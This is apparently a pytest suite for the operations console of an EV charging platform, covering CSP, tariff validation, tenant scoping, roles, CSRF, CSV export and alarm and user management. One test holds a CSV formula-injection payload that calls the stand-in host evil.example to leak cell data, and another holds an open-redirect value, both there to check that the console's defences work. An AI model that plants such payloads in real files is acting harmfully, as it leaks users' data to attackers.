"""The operations pages without a browser (TestClient on real Postgres): every page in both languages with
the CSP and no inline script; the tariff editor's refusals at their fields (the API model's and the
domain's, not a rule of the page's own); scope (another tenant: 404; an agent: its stations; roles:
403); CSRF on every form; the orders list's filters and pages against the API's JSON; the CSV is the
API's; acknowledging alarms; creating and disabling an agent."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timezone
from typing import Any
from uuid import UUID

import pytest
from fastapi.testclient import TestClient

from adapters.api.auth import AGENT, PLATFORM_ADMIN, TENANT_ADMIN
from adapters.postgres.env import eventsourcing_env
from adapters.web.mount import CSP
from adapters.web.pages.tariff_form import form_of
from domain.ledger import Ledger
from projections.runner import Projections
from tests.console import Scripts, TwoTenants, console_app, csrf_of, sign_in
from tests.e2e.test_projections import Tenant, scripted_day
from tests.factories import PRICES, SLOTS
from tests.operator_tokens import operator_headers


@dataclass
class Ops(TwoTenants):
    def orders_of(self, tenant: Tenant) -> list[dict[str, Any]]:
        with self.app.state.pool.connection() as conn:
            rows = conn.execute("SELECT trade_no, station_id, state FROM orders WHERE tenant_id = %s ORDER BY seq",
                                (tenant.tenant_id,)).fetchall()
        return [{"trade_no": r[0], "station_id": r[1], "state": r[2]} for r in rows]


@pytest.fixture
def ops(ledger: Ledger, database_url: str) -> Iterator[Ops]:
    a, b = scripted_day(ledger)
    app = console_app(ledger, database_url)
    with Projections(ledger.applications, eventsourcing_env(database_url)) as projections, TestClient(app) as client:
        projections.catch_up()
        yield Ops(app, client, projections, ledger, a, b)


def token(page: str) -> str:
    return csrf_of(page)


def tariff_form(name: str = "night", **changes: str) -> dict[str, str]:
    schedule = {"prices": PRICES, "slots": SLOTS}
    return {**form_of(schedule, name), **changes}


# ---- every page ----------------------------------------------------------------------------------------------
def test_every_operations_page_renders_in_both_languages_with_the_csp_and_no_inline_script(ops: Ops) -> None:
    alpha = ops.signed_in("alpha")
    trade = ops.orders_of(ops.a)[0]["trade_no"]
    paths = ["/console/tariffs", "/console/tariffs/new", f"/console/tariffs/{ops.a.tariff_id}",
             f"/console/tariffs/{ops.a.tariff_id}/revise", "/console/orders", "/console/orders?state=finished",
             f"/console/orders/{trade}", "/console/revenue", "/console/alarms?state=all", "/console/operation-log",
             "/console/users"]
    for path in paths:
        for lang in ("zh", "en"):
            r = alpha.get(path, params={"lang": lang})
            assert r.status_code == 200, (path, r.text[-500:])
            assert r.headers["content-security-policy"] == CSP
            scripts = Scripts(r.text)
            assert scripts.inline == [], (path, scripts.inline)
            assert all(s and s.startswith("/console/static/") for s in scripts.sources)
            assert "/console/static/ops.css" in r.text
    assert alpha.get("/console/static/ops.js").status_code == 200
    nav = alpha.get("/console/orders?lang=zh").text
    assert 'class="current" aria-current="page">充电订单' in nav


# ---- the tariff editor -------------------------------------------------------------------------------------------
def test_the_editor_creates_exactly_the_posted_tariff_and_revises_it_to_a_new_version(ops: Ops) -> None:
    alpha = ops.signed_in("alpha")
    csrf = token(alpha.get("/console/tariffs/new").text)
    form = tariff_form(**{"price-sharp-electricity": "1.23456", "slot-0": "sharp", "slot-47": "peak"})
    r = alpha.post("/console/tariffs", data={**form, "csrf": csrf}, follow_redirects=False)
    assert r.status_code == 303, r.text[-800:]
    tariff_id = UUID(r.headers["location"].split("/tariffs/")[1].split("?")[0])
    tariff = ops.ledger.tariffs.tariff(tariff_id)
    assert tariff.schedule_dict["prices"]["sharp"]["electricity"] == 123456
    assert tariff.schedule_dict["prices"]["valley"] == PRICES["valley"]
    assert tariff.schedule_dict["slots"] == [0] + SLOTS[1:47] + [1]
    page = alpha.get(f"/console/tariffs/{tariff_id}/revise").text
    assert 'value="1.23456"' in page and 'name="slot-0"' in page
    r = alpha.post(f"/console/tariffs/{tariff_id}", data={**form, "slot-0": "valley", "csrf": csrf},
                   follow_redirects=False)
    assert r.status_code == 303
    revised = ops.ledger.tariffs.tariff(tariff_id)
    assert revised.tariff_version == 2 and revised.schedule_dict["slots"][0] == 3 and revised.name == "night"


def field_error(html: str, field: str) -> str:
    found = re.search(rf'<small class="error" id="{re.escape(field)}-error">([^<]*)</small>', html)
    assert found, f"no error at {field}"
    return found.group(1)


@pytest.mark.parametrize(("changes", "field", "says"), [
    ({"price-peak-service": "0.123456"}, "price-peak-service", "at most 5 decimals"),  # domain.money
    ({"price-flat-electricity": "-1"}, "price-flat-electricity", "at most 5 decimals"),
    ({"price-valley-electricity": ""}, "price-valley-electricity", "Field required"),  # the API's model
    ({"price-sharp-service": "99999"}, "price-sharp-service", "less than or equal to 4294967295"),
    ({"slot-17": "noon"}, "slot-17", "'sharp', 'peak', 'flat' or 'valley'"),
    ({"slot-30": ""}, "slot-30", "'sharp', 'peak', 'flat' or 'valley'"),
    ({"name": ""}, "name", "at least 1 character"),
    ({"name": "   "}, "name", "a tariff needs a name"),  # the domain's refusal, put at its field
])
def test_a_refused_tariff_is_shown_at_its_field_with_the_api_or_domain_message(ops: Ops, changes: dict[str, str],
                                                                            field: str, says: str) -> None:
    alpha = ops.signed_in("alpha")
    csrf = token(alpha.get("/console/tariffs/new").text)
    before = len(alpha.get("/console/tariffs").text)
    r = alpha.post("/console/tariffs", data={**tariff_form(**changes), "csrf": csrf})
    assert r.status_code == 422
    assert says in field_error(r.text, field).replace("&#39;", "'")
    assert r.text.count('class="error"') == 1  # only that field
    assert 'aria-invalid="true"' in r.text and "请更正标出的字段" in r.text
    ops.projections.catch_up()
    assert len(alpha.get("/console/tariffs").text) == before  # nothing was created


def test_the_domain_refuses_what_the_model_lets_through_and_the_page_says_where() -> None:
    from adapters.web.pages.tariff_form import field_of_refusal
    from domain.errors import InvalidTariff
    from domain.tariff import TariffSchedule

    for prices, slots, field in ((PRICES, SLOTS[:47] + [7], "slot-47"),
                                 ({**PRICES, "peak": {"electricity": -1, "service": 0}}, SLOTS, "price-peak-electricity"),
                                 ({**PRICES, "flat": {"electricity": 0, "service": 2**32}}, SLOTS, "price-flat-service")):
        with pytest.raises(InvalidTariff) as refused:
            TariffSchedule.build(prices, slots)
        assert field_of_refusal(refused.value) == field


# ---- scope and roles ------------------------------------------------------------------------------------------
def test_another_tenants_pages_are_404_and_its_forms_change_nothing(ops: Ops) -> None:
    beta = ops.signed_in("beta", tenant=ops.b)
    trade = ops.orders_of(ops.a)[0]["trade_no"]
    for path in (f"/console/tariffs/{ops.a.tariff_id}", f"/console/tariffs/{ops.a.tariff_id}/revise",
                 f"/console/orders/{trade}", "/console/tariffs/not-a-uuid", "/console/orders/bad%20trade"):
        r = beta.get(path)
        assert r.status_code == 404 and "页面不存在" in r.text, path
    csrf = token(beta.get("/console/tariffs").text)
    posts = {f"/console/tariffs/{ops.a.tariff_id}": {**tariff_form(), "csrf": csrf},
             f"/console/tariffs/{ops.a.tariff_id}/assign": {"station": str(ops.b.stations[0]), "csrf": csrf},
             f"/console/tariffs/{ops.b.tariff_id}/assign": {"station": str(ops.a.stations[0]), "csrf": csrf},
             f"/console/tariffs/{ops.b.tariff_id}/push": {"pile_no": ops.a.piles[0], "csrf": csrf},
             f"/console/orders/{trade}/refund": {"amount": "1.00", "reason": "x", "attempt": "1", "csrf": csrf},
             "/console/alarms/acknowledge": {"alarm_id": alarm_of(ops, ops.a), "note": "", "csrf": csrf}}
    for path, data in posts.items():
        assert beta.post(path, data=data).status_code == 404, path
    assert ops.ledger.tariffs.tariff(ops.a.tariff_id).tariff_version == 2  # unchanged since the scripted day
    assert ops.ledger.registry.station(ops.a.stations[0]).tariff_id == ops.a.tariff_id
    with ops.app.state.pool.connection() as conn:
        assert conn.execute("SELECT count(*) FROM alarm_acknowledgements").fetchone() == (0,)
    listed = beta.get("/console/orders").text
    assert trade not in listed and ops.orders_of(ops.b)[0]["trade_no"] in listed
    assert beta.get(f"/console/orders?trade_no={trade}").text.count("data-trade=") == 0


def alarm_of(ops: Ops, tenant: Tenant) -> str:
    with ops.app.state.pool.connection() as conn:
        return str(conn.execute("SELECT alarm_id FROM alarms WHERE tenant_id = %s ORDER BY seq LIMIT 1",
                                (tenant.tenant_id,)).fetchone()[0])


def test_an_agent_sees_only_its_stations_and_may_not_do_what_the_api_forbids_it(ops: Ops) -> None:
    station = ops.a.stations[0]
    agent = ops.signed_in("agent-1", AGENT, stations=[station])
    mine = [o for o in ops.orders_of(ops.a) if o["station_id"] == station]
    others = [o for o in ops.orders_of(ops.a) if o["station_id"] != station]
    assert mine and others
    listed = agent.get("/console/orders").text
    assert all(o["trade_no"] in listed for o in mine) and not any(o["trade_no"] in listed for o in others)
    assert agent.get(f"/console/orders/{others[0]['trade_no']}").status_code == 404
    assert agent.get(f"/console/orders?station={ops.a.stations[1]}").text.count("data-trade=") == 0
    revenue = agent.get("/console/revenue").text
    assert "Alpha West" not in revenue.split('<table class="grid">', 1)[-1]
    assert agent.get("/console/alarms?state=all").text.count("data-alarm=") == alarms_at(ops, [station])
    assert agent.get(f"/console/tariffs/{ops.a.tariff_id}").status_code == 200  # agents read tariffs, as in the API
    csrf = token(agent.get("/console/orders").text)
    for method, path, data in (("get", "/console/users", None), ("get", "/console/tariffs/new", None),
                               ("post", "/console/tariffs", tariff_form()),
                               ("post", f"/console/tariffs/{ops.a.tariff_id}/assign", {"station": str(station)}),
                               ("post", "/console/alarms/acknowledge", {"alarm_id": alarm_of(ops, ops.a)}),
                               ("post", f"/console/orders/{mine[0]['trade_no']}/refund",
                                {"amount": "1.00", "attempt": "1"}),
                               ("post", "/console/users", {"username": "x-agent", "password": "p" * 12})):
        r = getattr(agent, method)(path, **({"data": {**data, "csrf": csrf}} if data is not None else {}))
        assert r.status_code == 403 and "无权操作" in r.text, (path, r.status_code)


def alarms_at(ops: Ops, stations: list[Any]) -> int:
    with ops.app.state.pool.connection() as conn:
        return int(conn.execute("SELECT count(*) FROM alarms WHERE station_id = ANY(%s)", (stations,)).fetchone()[0])


def test_a_platform_admin_sees_every_tenant_and_creates_no_tariff(ops: Ops) -> None:
    root = ops.signed_in("root", PLATFORM_ADMIN)
    listed = root.get("/console/orders").text
    assert ops.orders_of(ops.a)[0]["trade_no"] in listed and ops.orders_of(ops.b)[0]["trade_no"] in listed
    assert root.get(f"/console/tariffs/{ops.b.tariff_id}").status_code == 200
    assert root.get("/console/tariffs/new").status_code == 403
    users = root.get("/console/users").text
    assert "root" in users and "新建代理商" not in users


def test_every_form_is_refused_without_its_csrf_token(ops: Ops) -> None:
    alpha = ops.signed_in("alpha")
    trade = ops.orders_of(ops.a)[0]["trade_no"]
    for path, data in {"/console/tariffs": tariff_form(), f"/console/tariffs/{ops.a.tariff_id}": tariff_form(),
                       f"/console/tariffs/{ops.a.tariff_id}/assign": {"station": str(ops.a.stations[0])},
                       f"/console/tariffs/{ops.a.tariff_id}/push": {"pile_no": ops.a.piles[0]},
                       f"/console/orders/{trade}/refund": {"amount": "1.00", "attempt": "1"},
                       "/console/alarms/acknowledge": {"alarm_id": alarm_of(ops, ops.a)},
                       "/console/users": {"username": "x-agent", "password": "p" * 12},
                       "/console/users/agent-1/disable": {}}.items():
        r = alpha.post(path, data={**data, "csrf": "forged"}, follow_redirects=False)
        assert r.status_code == 403 and "CSRF" in r.text, path
    assert ops.ledger.tariffs.tariff(ops.a.tariff_id).tariff_version == 2


# ---- orders ------------------------------------------------------------------------------------------------
def test_the_orders_page_shows_the_rows_the_json_endpoint_answers_with_the_same_filters(ops: Ops) -> None:
    alpha = ops.signed_in("alpha")
    api = operator_headers(ops.app, TENANT_ADMIN, ops.a.tenant_id)
    for query in ("", "state=finished", f"station={ops.a.stations[1]}", "from=2026-11-22&to=2026-11-22",
                  "from=2026-11-23", "state=stopping"):
        page = alpha.get(f"/console/orders?{query}").text
        shown = re.findall(r'data-trade="([^"]+)"', page)
        api_query = query.replace("station=", "station_id=").replace("from=2026-11-22&to=2026-11-22",
                                                                     "from=2026-11-22T00:00:00%2B08:00&"
                                                                     "to=2026-11-23T00:00:00%2B08:00")
        api_query = api_query.replace("from=2026-11-23", "from=2026-11-23T00:00:00%2B08:00")
        items = ops.client.get(f"/operator/v1/orders?{api_query}", headers=api).json()["items"]
        assert shown == [o["trade_no"] for o in items], query
    r = alpha.get("/console/orders?from=22-11-2026&state=nope")
    assert r.status_code == 422 and field_error(r.text, "from") and field_error(r.text, "state")
    r = alpha.get("/console/orders?cursor=bm9wZQ")  # a cursor this page did not make: said, not a 500
    assert r.status_code == 422 and "the cursor is not one this API returned" in r.text


def test_the_orders_pages_follow_the_api_cursor(ops: Ops, monkeypatch: pytest.MonkeyPatch) -> None:
    from adapters.web.pages import orders

    monkeypatch.setattr(orders, "PAGE", 2)
    alpha = ops.signed_in("alpha")
    seen, path = [], "/console/orders"
    while path:
        page = alpha.get(path).text
        seen += re.findall(r'data-trade="([^"]+)"', page)
        found = re.search(r'<a href="([^"]+)" rel="next">', page)
        path = found.group(1).replace("&amp;", "&") if found else ""
    assert seen == [o["trade_no"] for o in reversed(ops.orders_of(ops.a))]


def test_the_csv_is_the_apis_and_the_order_page_shows_the_bill_the_pricer_gives(ops: Ops) -> None:
    stopping = next(o["trade_no"] for o in ops.orders_of(ops.a) if o["state"] == "stopping")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ops.ledger.force_close(stopping, at=datetime(2026, 11, 22, 9, tzinfo=timezone.utc), reason=formula,
                           author="alpha")
    ops.projections.catch_up()
    alpha = ops.signed_in("alpha")
    api = operator_headers(ops.app, TENANT_ADMIN, ops.a.tenant_id)
    page = alpha.get("/console/orders.csv?state=abandoned")
    assert page.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(page.text)))
    assert [(r["trade_no"], r["reason"]) for r in rows] == [(stopping, "'" + formula)]  # not a formula
    assert page.text == ops.client.get("/operator/v1/orders.csv?state=abandoned", headers=api).text
    page = alpha.get("/console/orders.csv?state=finished")
    assert page.text == ops.client.get("/operator/v1/orders.csv?state=finished", headers=api).text
    assert alpha.get("/console/orders.csv?from=yesterday").status_code == 422

    from domain.pricing import price
    from domain.tariff import TIERS

    for order in ops.orders_of(ops.a):
        if order["state"] != "finished":
            continue
        row = ops.client.get(f"/operator/v1/orders/{order['trade_no']}", headers=api).json()
        session = ops.ledger.session(order["trade_no"])
        schedule = ops.ledger.tariffs.tariff(row["tariff_id"]).schedule_at(row["tariff_version"])
        bill = price([row[f"energy_{t}"] for t in TIERS], schedule)
        assert bill.total_fen == row["total_fen"] == session.bill["total_fen"]
        html = alpha.get(f"/console/orders/{order['trade_no']}").text
        assert f'class="num bill-total" data-fen="{bill.total_fen}"' in html
        assert 'data-step="settled"' in html


# ---- alarms and users -------------------------------------------------------------------------------------------
def test_acknowledging_an_alarm_keeps_the_note_and_the_first_acknowledgement(ops: Ops) -> None:
    alpha = ops.signed_in("alpha")
    alarm = alarm_of(ops, ops.a)
    csrf = token(alpha.get("/console/alarms?state=all").text)
    r = alpha.post("/console/alarms/acknowledge", data={"alarm_id": alarm, "note": "bad\x00note", "csrf": csrf})
    assert r.status_code == 422 and "control" in r.text
    r = alpha.post("/console/alarms/acknowledge", data={"alarm_id": alarm, "note": "技术员已出发", "csrf": csrf,
                                                        "back": "/console/alarms?state=all"}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/console/alarms?state=all&acknowledged=1"
    r = alpha.post("/console/alarms/acknowledge", data={"alarm_id": alarm, "note": "a second note", "csrf": csrf,
                                                        "back": "https://evil.example/"}, follow_redirects=False)
    assert r.headers["location"] == "/console/alarms?acknowledged=1"  # never another site
    page = alpha.get("/console/alarms?state=all").text
    assert "alpha 已确认" in page and "技术员已出发" in page and "a second note" not in page
    assert alpha.post("/console/alarms/acknowledge", data={"alarm_id": "no-such", "csrf": csrf}).status_code == 404


def test_a_tenant_admin_creates_an_agent_with_its_stations_and_disables_it(ops: Ops) -> None:
    alpha = ops.signed_in("alpha")
    csrf = token(alpha.get("/console/users").text)
    station = ops.a.stations[1]
    bad = {"username": "x", "password": "short"}
    r = alpha.post("/console/users", data={**bad, "csrf": csrf})
    assert r.status_code == 422 and field_error(r.text, "username") and field_error(r.text, "password")
    r = alpha.post("/console/users", data={"username": "west-agent", "password": "a long passphrase", "csrf": csrf})
    assert r.status_code == 422 and "at least one station" in field_error(r.text, "stations")
    r = alpha.post("/console/users", data={"username": "west-agent", "password": "a long passphrase", "csrf": csrf,
                                           f"station-{ops.b.stations[0]}": "1"})
    assert r.status_code == 422 and field_error(r.text, "stations")  # another tenant's station
    r = alpha.post("/console/users", data={"username": "west-agent", "password": "a long passphrase", "csrf": csrf,
                                           f"station-{station}": "1"}, follow_redirects=False)
    assert r.status_code == 303
    r = alpha.post("/console/users", data={"username": "west-agent", "password": "a long passphrase", "csrf": csrf,
                                           f"station-{station}": "1"})
    assert r.status_code == 409 and "taken" in field_error(r.text, "username")
    agent = TestClient(ops.app)
    assert sign_in(agent, "west-agent", "a long passphrase").status_code == 303
    assert "Alpha West" in agent.get("/console/stations").text and "Alpha East" not in agent.get("/console/stations").text
    r = alpha.post("/console/users/west-agent/disable", data={"csrf": csrf}, follow_redirects=False)
    assert r.status_code == 303
    assert agent.get("/console/orders", follow_redirects=False).status_code == 303  # signed out at once
    assert 'data-user="west-agent" data-disabled="yes"' in alpha.get("/console/users").text
    assert alpha.post("/console/users/alpha/disable", data={"csrf": csrf}).status_code == 409  # not oneself
    beta = ops.signed_in("beta", tenant=ops.b)
    beta_csrf = token(beta.get("/console/users").text)
    assert beta.post("/console/users/west-agent/enable", data={"csrf": beta_csrf}).status_code == 404
    assert "west-agent" not in beta.get("/console/users").text
